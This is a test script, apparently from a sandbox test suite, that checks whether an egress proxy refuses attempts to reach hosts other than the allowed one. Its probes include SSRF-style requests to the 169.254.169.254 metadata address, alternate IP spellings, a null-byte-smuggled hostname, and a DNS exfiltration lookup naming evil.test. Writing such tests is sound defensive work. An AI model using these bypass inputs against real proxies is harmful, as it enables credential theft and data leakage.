#: row N07
#: tries to talk the proxy into other hosts than the one that is allowed: the stage's own port
#: network 127.0.0.1:@PORT allowed.test
#: only namespaces the proxy is made of listeners inside a network of its own
#: probe allowed; control none there is no proxy outside; confined got 200
#: probe other-port; control none there is no proxy outside; confined got 403
#: probe other-host; control none there is no proxy outside; confined got 403
#: probe metadata; control none there is no proxy outside; confined got 403
#: probe decimal; control none there is no proxy outside; confined got 403
#: probe mapped; control none there is no proxy outside; confined got 403 or got 200
#: probe localhost; control none there is no proxy outside; confined got 403
#: probe plain-metadata; control none there is no proxy outside; confined got 403
#: probe odd-name; control none there is no proxy outside; confined got 400 or got 403
#: probe name; control none there is no proxy outside; confined refused absent
#: probe secret-name; control none there is no proxy outside; confined refused absent
#: probe reachable; control got it; confined refused ECONNREFUSED|EACCES
#: refused-hosts evil.test 169.254.169.254
import socket

port = int(stage("PORT"))


def proxy(head):
    with socket.create_connection(("127.0.0.1", 3128), 5) as client:
        client.settimeout(5)
        client.sendall(head.encode("latin-1") + b"\r\n\r\n")
        return client.recv(4096).split(b" ")[1][:3].decode()


def connect(host):
    return proxy(f"CONNECT {host} HTTP/1.1\r\nHost: {host}")


def resolve(name):
    try:
        socket.getaddrinfo(name, 443)
    except socket.gaierror:
        raise Absent


# `mapped` is the address that is allowed, in another spelling.
if not CONTROL:
    attempt("allowed", lambda: connect(f"127.0.0.1:{port}"))
    attempt("other-port", lambda: connect(f"127.0.0.1:{port ^ 1}"))
    attempt("other-host", lambda: connect("evil.test:443"))
    attempt("metadata", lambda: connect("169.254.169.254:80"))
    attempt("decimal", lambda: connect(f"2130706433:{port}"))
    attempt("mapped", lambda: connect(f"[::ffff:127.0.0.1]:{port}"))
    attempt("localhost", lambda: connect(f"localhost:{port}"))
    attempt("plain-metadata", lambda: proxy("GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: allowed.test"))
    attempt("odd-name", lambda: connect("evil.test\0.allowed.test:443"))
    attempt("name", lambda: resolve("evil.test"))
    attempt("secret-name", lambda: resolve("c2VjcmV0.allowed.test.evil.test"))
attempt("reachable", lambda: socket.create_connection(("127.0.0.1", port), 2).close())
